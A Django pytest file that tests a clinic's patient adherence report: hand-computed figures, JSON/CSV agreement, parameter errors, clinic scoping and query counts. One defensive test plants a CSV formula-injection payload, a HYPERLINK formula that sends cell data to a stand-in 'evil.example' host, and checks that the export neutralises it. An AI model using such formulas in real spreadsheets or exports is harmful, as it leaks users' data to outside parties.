"""The adherence report against a hand-computed example (product.md's definition)."""

import csv
import datetime as dt
import io
from decimal import Decimal
from fractions import Fraction

import pytest
from django.db import connection

from clinic.services import api_key_create
from clinic.tenancy import resolve_actor
from patients.adherence import week_figures
from patients.adherence_report import ReportWindowError, adherence_report, report_window
from patients.models import Assignment
from patients.services import assignment_create
from tests.factories import PatientFactory, SessionLogFactory, make_protocol

pytestmark = pytest.mark.django_db
D = dt.date
URL = "/api/v1/reports/adherence/"
# Window Wednesday 4 March to Tuesday 17 March 2026: partial ISO weeks at both ends.
START, END, TODAY = D(2026, 3, 4), D(2026, 3, 17), D(2026, 3, 31)


@pytest.fixture
def example(world):
    """Three assignments in clinic A, with the figures worked out by hand below."""
    protocol = make_protocol()
    pa = PatientFactory(clinic=world.clinic_a, therapist=world.therapist_a, external_ref="EX-A")
    pb = PatientFactory(clinic=world.clinic_a, therapist=world.therapist_a, external_ref="EX-B")
    pc = PatientFactory(clinic=world.clinic_a, therapist=world.admin_a, external_ref="EX-C")
    a = assignment_create(patient=pa, protocol=protocol, start_date=D(2026, 2, 1), baseline_pain=2,
                          sessions_per_week=3)
    b = assignment_create(patient=pb, protocol=protocol, start_date=D(2026, 1, 10), baseline_pain=2,
                          sessions_per_week=4)
    Assignment.objects.filter(pk=b.pk).update(end_date=D(2026, 3, 10), status="completed")
    c = assignment_create(patient=pc, protocol=protocol, start_date=D(2026, 3, 20), baseline_pain=2)

    def log(assignment, day, pain=1, completed=True):
        SessionLogFactory(exercise=assignment.exercises.get(order=0), date=day, pain_during=pain,
                          completed=completed)

    log(a, D(2026, 3, 3))  # before the window
    log(a, D(2026, 3, 4), pain=2)
    log(a, D(2026, 3, 4), pain=4)  # two sessions on one day count once
    log(a, D(2026, 3, 6), pain=3)
    log(a, D(2026, 3, 7), pain=6, completed=False)  # stopped early: not a training day
    for day in (9, 10, 11, 12):
        log(a, D(2026, 3, day))
    log(a, D(2026, 3, 17), pain=2)
    log(a, D(2026, 3, 20))  # after the window
    log(b, D(2026, 3, 5))
    log(b, D(2026, 3, 9))
    log(b, D(2026, 3, 12))  # after b ended
    return a, b, c


def rows_by_ref(rows):
    return {row.assignment.patient.external_ref: row for row in rows}


def test_hand_computed_example(world, example):
    rows = rows_by_ref(adherence_report(actor=resolve_actor(world.therapist_a), start=START, end=END, today=TODAY))
    a, b, c = rows["EX-A"], rows["EX-B"], rows["EX-C"]
    # A: 3/week; weeks of 5, 7 and 2 active days -> prescribed 15/7 + 3 + 6/7 = 6.
    assert [(w.week_start, w.active_days, w.prescribed, w.done) for w in a.weeks] == [
        (D(2026, 3, 2), 5, Fraction(15, 7), 2),
        (D(2026, 3, 9), 7, Fraction(3), 4),
        (D(2026, 3, 16), 2, Fraction(6, 7), 1),
    ]
    assert a.prescribed == Decimal("6.00")
    assert a.completed_days == 7
    # min(2, 15/7) + min(4, 3) + min(1, 6/7) = 41/7; 100 x (41/7) / 6 = 97.619...
    assert a.adherence_pct == Decimal("97.6")
    assert a.mean_pain_during == Decimal("2.3")  # 21 / 9 sessions in the active days
    assert a.last_session_date == D(2026, 3, 17)
    # B: 4/week, ended 10 March inside the window: 5 + 2 active days -> prescribed 4.
    assert [(w.active_days, w.done) for w in b.weeks] == [(5, 1), (2, 1)]
    assert (b.prescribed, b.completed_days, b.adherence_pct) == (Decimal("4.00"), 2, Decimal("50.0"))
    # C starts after the window: listed, nothing prescribed, adherence null.
    assert (c.weeks, c.prescribed, c.adherence_pct) == ([], Decimal("0.00"), None)


def test_json_and_csv_over_the_api_agree(client, world, example):
    _key, raw = api_key_create(clinic=world.clinic_a, name="EHR")
    auth = {"HTTP_AUTHORIZATION": f"Api-Key {raw}"}
    params = {"start": START.isoformat(), "end": END.isoformat(), "therapist": world.therapist_a.pk}
    response = client.get(URL, params, **auth)
    assert response.status_code == 200
    body = response.json()
    assert (body["start"], body["end"]) == ("2026-03-04", "2026-03-17")
    assert body["generated_at"].endswith("+00:00")
    row = next(r for r in body["rows"] if r["external_ref"] == "EX-A")
    assert row["prescribed"] == 6.0 and row["completed_days"] == 7 and row["adherence_pct"] == 97.6
    assert {r["external_ref"] for r in body["rows"]} >= {"EX-A", "EX-B"}
    assert "EX-C" not in {r["external_ref"] for r in body["rows"]}  # filtered out by therapist
    csv_response = client.get(URL, {**params, "format": "csv"}, **auth)
    assert csv_response["Content-Type"].startswith("text/csv")
    assert 'filename="adherence-2026-03-04-2026-03-17.csv"' in csv_response["Content-Disposition"]
    reader = list(csv.DictReader(io.StringIO(csv_response.content.decode())))
    csv_row = next(r for r in reader if r["external_ref"] == "EX-A")
    assert (csv_row["prescribed"], csv_row["completed_days"], csv_row["adherence_pct"]) == ("6.00", "7", "97.6")
    accept = client.get(URL, params, HTTP_ACCEPT="text/csv", **auth)
    assert accept["Content-Type"].startswith("text/csv")


def test_csv_cells_that_start_like_formulas_are_written_as_text(client, world, example):
    """A reference, therapist or protocol name typed as a formula opens as text in a spreadsheet (OWASP)."""
    from patients.models import Assignment, Patient

    a = example[0]
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    Patient.objects.filter(pk=a.patient_id).update(external_ref=hyperlink)
    Assignment.objects.filter(pk=a.pk).update(protocol_name="@SUM(1+1)")
    world.therapist_a.first_name, world.therapist_a.last_name = "+cmd", "-x"
    world.therapist_a.save()
    client.force_login(world.therapist_a)
    params = {"start": START, "end": END, "patient": a.patient_id}
    rows = list(csv.DictReader(io.StringIO(client.get(URL, {**params, "format": "csv"}).content.decode())))
    assert len(rows) == 1
    row = rows[0]
    assert row["external_ref"] == "'" + hyperlink
    assert row["protocol"] == "'@SUM(1+1)"
    assert row["therapist"].startswith("'+cmd")
    # Numbers Backstep computes stay numbers; JSON is unchanged.
    assert (row["prescribed"], row["completed_days"], row["adherence_pct"]) == ("6.00", "7", "97.6")
    assert client.get(URL, params).json()["rows"][0]["external_ref"] == hyperlink


def test_group_by_week(client, world, example):
    client.force_login(world.therapist_a)
    body = client.get(URL, {"start": START, "end": END, "group_by": "week", "patient": example[0].patient_id}).json()
    weeks = [(r["week_start"], r["active_days"], r["prescribed"], r["completed_days"], r["adherence_pct"])
             for r in body["rows"]]
    assert weeks == [("2026-03-02", 5, 2.14, 2, 93.3), ("2026-03-09", 7, 3.0, 4, 100.0),
                     ("2026-03-16", 2, 0.86, 1, 100.0)]


@pytest.mark.parametrize(("params", "field"), [
    ({"start": "2025-01-01", "end": "2026-03-01"}, "end"),
    ({"start": "2026-03-10", "end": "2026-03-01"}, "end"),
    ({"start": "03/01/2026"}, "start"),
    ({"condition": "hip"}, "condition"),
    ({"group_by": "month"}, "group_by"),
    ({"therapist": "x"}, "therapist"),
])
def test_bad_parameters_give_400_naming_the_parameter(client, world, params, field):
    client.force_login(world.therapist_a)
    response = client.get(URL, params)
    assert response.status_code == 400
    assert field in response.json()


def test_default_window_is_the_last_28_days():
    assert report_window(start=None, end=None, today=D(2026, 3, 31)) == (D(2026, 3, 4), D(2026, 3, 31))
    assert report_window(start=D(2025, 3, 31), end=D(2026, 3, 31), today=D(2026, 3, 31))[0] == D(2025, 3, 31)
    with pytest.raises(ReportWindowError):
        report_window(start=D(2025, 3, 30), end=D(2026, 3, 31), today=D(2026, 3, 31))


def test_week_figures_end_at_today_for_running_assignments():
    weeks = week_figures(sessions_per_week=7, active=(D(2026, 3, 4), D(2026, 3, 5)), done_by_week={})
    assert [(w.active_days, w.prescribed) for w in weeks] == [(2, Fraction(2))]


def test_report_is_scoped_and_refused_to_patients(client, world, example):
    client.force_login(world.therapist_b)
    refs = {r["external_ref"] for r in client.get(URL, {"start": START, "end": END}).json()["rows"]}
    assert not refs & {"EX-A", "EX-B", "EX-C"}
    _key, raw = api_key_create(clinic=world.clinic_b, name="Other clinic")
    body = client.get(URL, {"start": START, "end": END}, HTTP_AUTHORIZATION=f"Api-Key {raw}").json()
    assert not {r["external_ref"] for r in body["rows"]} & {"EX-A", "EX-B", "EX-C"}
    client.force_login(world.patient_a1.user)
    assert client.get(URL).status_code == 403
    client.logout()
    assert client.get(URL).status_code == 401


@pytest.mark.parametrize("size", [5, 50])
def test_report_query_count_does_not_grow_with_patients(client, world, size, django_assert_num_queries):
    protocol = make_protocol()
    for n in range(size):
        patient = PatientFactory(clinic=world.clinic_a, therapist=world.therapist_a)
        assignment = assignment_create(patient=patient, protocol=protocol, start_date=D(2026, 2, 1), baseline_pain=1)
        SessionLogFactory(exercise=assignment.exercises.get(order=0), date=D(2026, 3, 5 + n % 7))
    _key, raw = api_key_create(clinic=world.clinic_a, name="EHR")
    client.get(URL, {"start": START, "end": END}, HTTP_AUTHORIZATION=f"Api-Key {raw}")  # warm the key's last-used
    with django_assert_num_queries(report_queries()):
        response = client.get(URL, {"start": START, "end": END}, HTTP_AUTHORIZATION=f"Api-Key {raw}")
    assert len(response.json()["rows"]) == size + 2


def report_queries() -> int:
    """Key lookup, the report's one statement (patients.adherence_sql: figures, last session, open flags and current
    steps), and the audit trail's event for this pull with the patients its rows held, however many: one statement
    on PostgreSQL (a data-modifying WITH, clinic.audit_write), the event's INSERT and its patients' INSERT
    elsewhere. Issue 21 brought it down from 6 (three reads for the report, two audit inserts)."""
    return 3 if connection.vendor == "postgresql" else 4


def test_huge_ids_are_a_400_not_a_500(client, world):
    client.force_login(world.therapist_a)
    response = client.get(URL, {"therapist": "45168445360823369728"})
    assert response.status_code == 400 and "therapist" in response.json()


def test_last_session_date_is_the_newest_of_any_exercise_up_to_the_window_end(world):
    """The newest session is taken per exercise (issue 21), then the latest of those: a companion exercise's
    later session counts, a session after the window's end does not, a plan without sessions has none."""
    protocol = make_protocol()
    patient = PatientFactory(clinic=world.clinic_a, therapist=world.therapist_a, external_ref="NEWEST")
    plan = assignment_create(patient=patient, protocol=protocol, start_date=D(2026, 2, 1), baseline_pain=2)
    quiet = assignment_create(patient=PatientFactory(clinic=world.clinic_a, therapist=world.therapist_a,
                                                     external_ref="QUIET"),
                              protocol=protocol, start_date=D(2026, 2, 1), baseline_pain=2)
    first, *others = list(plan.exercises.order_by("order"))
    assert others, "the protocol needs a second exercise"
    SessionLogFactory(exercise=first, date=D(2026, 3, 5))
    SessionLogFactory(exercise=others[-1], date=D(2026, 3, 12))
    SessionLogFactory(exercise=first, date=D(2026, 3, 20))  # after END
    rows = rows_by_ref(adherence_report(actor=resolve_actor(world.therapist_a), start=START, end=END, today=TODAY))
    assert rows["NEWEST"].last_session_date == D(2026, 3, 12)
    assert rows["QUIET"].last_session_date is None and quiet.pk == rows["QUIET"].assignment.pk
